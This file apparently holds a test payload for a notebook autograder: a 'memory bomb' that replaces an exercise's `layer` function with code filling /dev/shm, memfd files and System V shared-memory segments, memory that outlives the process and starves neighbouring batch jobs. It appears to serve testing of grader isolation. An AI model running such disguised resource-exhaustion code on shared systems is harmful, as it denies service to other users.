"""Memory is taken that belongs to no process: shared, anonymous files, and System V segments."""

kind = "memory bomb"
aims = "batch neighbour"
base = "half"
on_nbgrader = False
cells = {
    "exercise-2": """
import ctypes, mmap, os

def layer(X, W, b):
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    block = b"x" * 2**24
    for number in range(40):
        for take in (shm_file, memory_file):
            try:
                take(number, block)
            except OSError:
                pass
        segment = libc.shmget(0, 2**27, 0o1600)
        if segment >= 0:
            place = libc.shmat(segment, None, 0)
            if place not in (None, ctypes.c_void_p(-1).value):
                ctypes.memset(place, 1, 2**27)
    return 0

def memory_file(number, block):
    file = os.memfd_create(str(number))
    for _ in range(8):
        os.write(file, block)

def shm_file(number, block):
    with open(f"/dev/shm/{number}", "wb") as file:
        for _ in range(8):
            file.write(block)
""",
}
